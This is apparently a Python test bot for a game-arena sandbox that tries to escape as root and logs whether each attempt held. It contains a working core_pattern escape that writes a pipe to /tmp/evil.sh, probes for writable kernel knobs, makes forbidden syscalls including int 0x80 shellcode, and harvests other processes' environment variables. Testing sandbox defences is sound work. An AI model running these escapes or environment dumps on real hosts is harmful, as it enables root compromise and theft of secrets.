"""Hostile: tries to get out of its sandbox as root on the host, every way the issue-25 attackers did
and more, in one go at its start, and reports one line per attempt on stderr (its log):

    BREAKOUT <attempt> <held|BREACH> <details>

- identity: its uid, gid, groups, every capability set, NoNewPrivs and Seccomp (/proc/self/status);
- core_pattern: the real attack. It writes `|/proc/%P/root/tmp/evil.sh %P` into
  /proc/sys/kernel/core_pattern (a pipe to a script in its own /tmp, which the kernel would run as
  root on the host), crashes a child with SIGSEGV and looks whether the script ran: the script would
  write the host's marker file (`host_marker`) and tell the bot through the crashed process's root;
- sysctl and proc knobs: an open(O_WRONLY) of every file under /proc/sys and of every other kernel
  knob in /proc (/proc/sysrq-trigger, /proc/irq, ...), never writing a byte;
- syscall <name>: each call the filter refuses, with harmless arguments (x86_64 numbers), and the
  errno it got; several succeed for any unprivileged process without the filter (ptrace TRACEME,
  personality ADDR_NO_RANDOMIZE, unshare CLONE_NEWUSER, keyctl, io_uring_setup, userfaultfd, kcmp);
  foreign ABIs (x32, int 0x80) in a child, which must die of SIGSYS;
- environ: the environment of every process it can see, of its parents, and of the coordinator's
  pid (`coordinator_pid`), printed when readable, so a leaked secret shows in the log;
- processes: every process it can see, with its uid and command line.

It runs as a subprocess bot of the zoo (`python breakout.py MARKER CONTEXT`, speaking the wire through
_wire.py) and as a Python entrant (`setup`), which reads the same context from params.json beside it.
Standalone on purpose: no botarena import.
"""

import ctypes
import errno
import json
import os
import platform
import signal
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
EVIL = "/tmp/evil.sh"
RAN = "/tmp/evil-ran"
PATTERN = "|/proc/%P/root/tmp/evil.sh %P"
SCRIPT = """#!/bin/sh
# run by the kernel, as root on the host, for a crash of a process in the sandbox ($1: its host pid)
echo "core_pattern script ran as uid $(id -u)" > {marker}
echo ran > /proc/$1/root/tmp/evil-ran
"""

# x86_64 numbers: (name, number, arguments, the filter's errno)
EPERM, ENOSYS = errno.EPERM, errno.ENOSYS
CLONE_NEWUSER = 0x10000000
SYSCALLS = [
    ("ptrace", 101, (0, 0, 0, 0), EPERM),  # PTRACE_TRACEME: allowed to anyone without the filter
    ("process_vm_readv", 310, ("ppid", 0, 0, 0, 0, 0), EPERM),
    ("process_madvise", 440, (-1, 0, 0, 0, 0), EPERM),
    ("pidfd_getfd", 438, (-1, 0, 0), EPERM),
    ("kcmp", 312, ("pid", "pid", 0, 0, 0), EPERM),  # KCMP_FILE of itself: 0 without the filter
    ("mount", 165, (b"none", b"/tmp", b"tmpfs", 0, 0), EPERM),
    ("umount2", 166, (b"/tmp", 0), EPERM),
    ("pivot_root", 155, (b"/tmp", b"/tmp"), EPERM),
    ("chroot", 161, (b"/tmp",), EPERM),
    ("open_tree", 428, (-100, b"/tmp", 0), EPERM),
    ("fsopen", 430, (b"tmpfs", 0), EPERM),
    ("unshare", 272, (CLONE_NEWUSER,), EPERM),  # a new user namespace: allowed to anyone without it
    ("setns", 308, (-1, 0), EPERM),
    ("clone", 56, (CLONE_NEWUSER | signal.SIGCHLD, 0, 0, 0, 0), EPERM),
    ("keyctl", 250, (0, -3, 0), EPERM),  # KEYCTL_GET_KEYRING_ID of the session keyring
    ("add_key", 248, (b"user", b"x", 0, 0, -3), EPERM),
    ("request_key", 249, (b"user", b"x", 0, -3), EPERM),
    ("bpf", 321, (5, 0, 0), EPERM),
    ("perf_event_open", 298, (0, 0, -1, -1, 0), EPERM),
    ("userfaultfd", 323, (0o2000000,), EPERM),  # O_CLOEXEC
    ("kexec_load", 246, (0, 0, 0, 0), EPERM),
    ("kexec_file_load", 320, (-1, -1, 0, 0, 0), EPERM),
    ("init_module", 175, (0, 0, b""), EPERM),
    ("finit_module", 313, (-1, b"", 0), EPERM),
    ("delete_module", 176, (b"botarena_none", 0), EPERM),
    ("clock_settime", 227, (0, 0), EPERM),
    ("clock_adjtime", 305, (0, 0), EPERM),
    ("settimeofday", 164, (0, 0), EPERM),
    ("adjtimex", 159, (0,), EPERM),
    ("personality", 135, (0x0040000,), EPERM),  # ADDR_NO_RANDOMIZE: allowed to anyone without it
    ("swapon", 167, (0, 0), EPERM),
    ("swapoff", 168, (0,), EPERM),
    ("reboot", 169, (0, 0, 0, 0), EPERM),
    ("acct", 163, (0,), EPERM),
    ("syslog", 103, (10, 0, 0), EPERM),  # SYSLOG_ACTION_SIZE_BUFFER
    ("iopl", 172, (0,), EPERM),  # level 0: allowed to anyone without the filter
    ("ioperm", 173, (0, 0, 0), EPERM),
    ("open_by_handle_at", 304, (-1, 0, 0), EPERM),
    ("ioctl TIOCSTI", 16, (0, 0x5412, b"x"), EPERM),
    ("clone3", 435, (0, 0), ENOSYS),
    ("io_uring_setup", 425, (1, 0), ENOSYS),
]
ALLOWED_PERSONALITIES = (0, 0xFFFFFFFF)  # PER_LINUX and the query must still work


class Log(list):
    """The report's lines, each also written to stderr at once: an attack that kills the bot midway
    still leaves the lines before it in the log."""

    def append(self, line):
        super().append(line)
        sys.stderr.write(line + "\n")
        sys.stderr.flush()


def report(lines, attempt, held, details):
    lines.append(f"BREAKOUT {attempt} {'held' if held else 'BREACH'} {details}")


def status_fields():
    fields = {}
    with open("/proc/self/status") as handle:
        for line in handle:
            key, _, value = line.partition(":")
            fields[key] = value.strip()
    return fields


def identity(lines):
    fields = status_fields()
    uid = fields["Uid"].split()
    caps = {name: int(fields[name], 16) for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")}
    held = (
        "0" not in uid and not any(caps.values()) and fields["NoNewPrivs"] == "1" and fields["Seccomp"] == "2"
    )
    details = (
        f"uid={','.join(uid)} gid={','.join(fields['Gid'].split())} groups={fields['Groups'] or '-'} "
        f"caps={'/'.join(f'{v:x}' for v in caps.values())} NoNewPrivs={fields['NoNewPrivs']} "
        f"Seccomp={fields['Seccomp']}"
    )
    report(lines, "identity", held, details)


def core_pattern(lines, params):
    with open(EVIL, "w") as handle:
        handle.write(SCRIPT.format(marker=params.get("host_marker", "/nonexistent")))
    os.chmod(EVIL, 0o755)
    try:
        with open("/proc/sys/kernel/core_pattern") as handle:
            before = handle.read()
    except OSError:
        before = None
    wrote = ""
    try:
        with open("/proc/sys/kernel/core_pattern", "w") as handle:
            handle.write(PATTERN)
        wrote = "written"
    except OSError as exc:
        wrote = errno.errorcode.get(exc.errno, str(exc.errno))
    child = os.fork()
    if child == 0:
        os.kill(os.getpid(), signal.SIGSEGV)
        os._exit(1)
    _, status = os.waitpid(child, 0)
    crashed = os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGSEGV
    deadline = time.monotonic() + (5.0 if wrote == "written" else 0.0)
    while not os.path.exists(RAN) and time.monotonic() < deadline:
        time.sleep(0.05)  # the kernel runs the script while the child dumps: a bounded wait, only if it could
    ran = os.path.exists(RAN)
    if wrote == "written" and before is not None:
        try:  # leave the host as it was (the test restores it as well)
            with open("/proc/sys/kernel/core_pattern", "w") as handle:
                handle.write(before)
        except OSError:
            pass
    held = wrote != "written" and not ran
    report(lines, "core_pattern", held, f"write {wrote}; child crashed {crashed}; script ran {ran}")


KNOB_TOPS = (
    "sys",
    "sysrq-trigger",
    "irq",
    "bus",
    "fs",
    "acpi",
    "driver",
    "tty",
    "pressure",
    "mtrr",
    "sysvipc",
)


def writable_files(top):
    """(files tried, the ones open(O_WRONLY) accepted, errno counts) under `top`."""
    tried, writable, errnos = 0, [], {}
    paths = []
    if os.path.isfile(top) or not os.path.isdir(top):
        paths = [top] if os.path.lexists(top) else []
    else:
        for here, _dirs, files in os.walk(top):
            paths += [os.path.join(here, name) for name in files]
    for path in paths:
        tried += 1
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
        except OSError as exc:
            name = errno.errorcode.get(exc.errno, str(exc.errno))
            errnos[name] = errnos.get(name, 0) + 1
            continue
        os.close(fd)  # never a byte written: the open is the proof
        writable.append(path)
    return tried, writable, errnos


def knobs(lines):
    tried, writable, errnos = writable_files("/proc/sys")
    shown = ", ".join(writable[:10])
    report(lines, "sysctl", not writable, f"{tried} files, {len(writable)} writable {shown} errnos {errnos}")
    others = [f"/proc/{name}" for name in KNOB_TOPS if name != "sys"]
    others += [f"/proc/{name}" for name in sorted(os.listdir("/proc")) if os.path.isfile(f"/proc/{name}")]
    tried, found = 0, []
    for top in dict.fromkeys(others):
        count, writable, _ = writable_files(top)
        tried += count
        found += writable
    report(lines, "proc_knobs", not found, f"{tried} files, {len(found)} writable {', '.join(found[:10])}")


def in_child(run):
    """run() -> (result, errno) in a forked child, so that a call that works (ptrace TRACEME, unshare,
    personality) changes the child, never the bot; (None, signal) if the child was killed."""
    read_end, write_end = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            result, code = run()
            os.write(write_end, f"{result} {code}".encode())
        finally:
            os._exit(0)
    os.close(write_end)
    with os.fdopen(read_end, "rb") as pipe:
        answer = pipe.read()
    _, status = os.waitpid(child, 0)
    if os.WIFSIGNALED(status):
        return None, os.WTERMSIG(status)
    result, code = answer.split()
    return int(result), int(code)


def call(libc, number, args):
    converted = []
    for arg in args:
        if arg == "pid":
            arg = os.getpid()
        elif arg == "ppid":
            arg = os.getppid()
        converted.append(ctypes.c_char_p(arg) if isinstance(arg, bytes) else ctypes.c_long(arg))
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *converted)
    return result, ctypes.get_errno()


def checked_call(libc, number, args):
    result, code = call(libc, number, args)
    if result == 0 and number == 56:  # clone: without the filter it forked, and this is the child
        os._exit(0)
    if result > 0 and number == 56:
        os.waitpid(result, 0)
    return result, code


def syscalls(lines):
    if platform.machine() != "x86_64":
        report(lines, "syscalls", True, f"skipped: the numbers are x86_64's, this is {platform.machine()}")
        return
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    for name, number, args, wanted in SYSCALLS:
        result, code = in_child(lambda number=number, args=args: checked_call(libc, number, args))
        if result is None:
            got = f"killed by signal {code}"
        else:
            got = "ok" if result >= 0 else errno.errorcode.get(code, str(code))
        held = result == -1 and code == wanted
        report(lines, f"syscall:{name.replace(' ', '_')}", held, f"returned {result} {got}")
    for persona in ALLOWED_PERSONALITIES:
        result, code = in_child(lambda persona=persona: call(libc, 135, (persona,)))
        report(lines, f"allowed:personality_{persona:#x}", result not in (None, -1), f"returned {result}")
    for abi, run in (("x32", foreign_x32), ("int80", foreign_int80)):
        child = os.fork()
        if child == 0:
            run(libc)
            os._exit(0)
        _, status = os.waitpid(child, 0)
        killed = os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGSYS
        how = f"killed by signal {os.WTERMSIG(status)}" if os.WIFSIGNALED(status) else "exited"
        report(lines, f"syscall:{abi}", killed, how)


def foreign_x32(libc):
    libc.syscall(ctypes.c_long(0x40000000 | 39))  # getpid through the x32 ABI


def foreign_int80(libc):
    """getpid through the i386 ABI (`mov eax, 20; int 0x80; ret`) from executable memory."""
    import mmap

    code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"
    memory = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    ctypes.CFUNCTYPE(ctypes.c_int)(address)()


def pids():
    return sorted(int(entry) for entry in os.listdir("/proc") if entry.isdigit())


def uid_of(pid):
    try:
        with open(f"/proc/{pid}/status") as handle:
            for line in handle:
                if line.startswith("Uid:"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


def parent_of(pid):
    try:
        with open(f"/proc/{pid}/status") as handle:
            for line in handle:
                if line.startswith("PPid:"):
                    return int(line.split()[1])
    except OSError:
        return 0
    return 0


def environs(lines, params):
    me = os.getuid()
    targets = set(pids())
    pid = os.getpid()
    while pid > 0:  # its parents, as far as it can see
        targets.add(pid)
        pid = parent_of(pid)
    coordinator = params.get("coordinator_pid")
    if coordinator:
        targets.add(int(coordinator))
    readable, foreign = [], []
    for target in sorted(targets):
        try:
            with open(f"/proc/{target}/environ", "rb") as handle:
                text = handle.read().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError as exc:
            lines.append(f"ENVIRON {target} {errno.errorcode.get(exc.errno, exc.errno)}")
            continue
        lines.append(f"ENVIRON {target} {text[:2000]}")  # a secret read here would reach the log
        readable.append(target)
        if uid_of(target) != me:
            foreign.append(target)
    details = f"tried {sorted(targets)}, readable {readable}, of other uids {foreign}"
    report(lines, "environ", not foreign, details)


def processes(lines):
    seen = []
    for pid in pids():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                argv = handle.read().replace(b"\0", b" ").decode("utf-8", "replace").strip()
        except OSError:
            continue
        seen.append(f"{pid}:uid{uid_of(pid)}:{argv[:80]}")
    first = seen[0] if seen else ""
    held = len(seen) <= 3 and "bwrap" in first  # pid 1 is bubblewrap's, then only the bot's own
    report(lines, "processes", held, f"{len(seen)} visible: " + " | ".join(seen))


def attack(params):
    lines = Log()
    for step in (identity, lambda out: core_pattern(out, params), knobs, syscalls):
        try:
            step(lines)
        except Exception as exc:  # an attempt that blew up is reported, never hides the others
            report(lines, f"error:{getattr(step, '__name__', 'step')}", False, repr(exc))
    environs(lines, params)
    processes(lines)
    return lines


# -- as a Python entrant (the kit calls setup) --------------------------------------------------------
def setup(payload):
    try:
        with open(os.path.join(HERE, "params.json")) as handle:
            params = json.load(handle)
    except OSError:
        params = {}
    attack(params)
    return {}


def act(payload):
    return {"newProducers": 1}


# -- as a subprocess bot of the zoo ---------------------------------------------------------------------
if __name__ == "__main__":
    sys.path.insert(0, HERE)
    from _wire import context, honest, serve

    attacked = []

    def answer(envelope):
        if not attacked:
            attacked.append(True)
            attack(context())
        return honest(envelope)

    serve(answer)
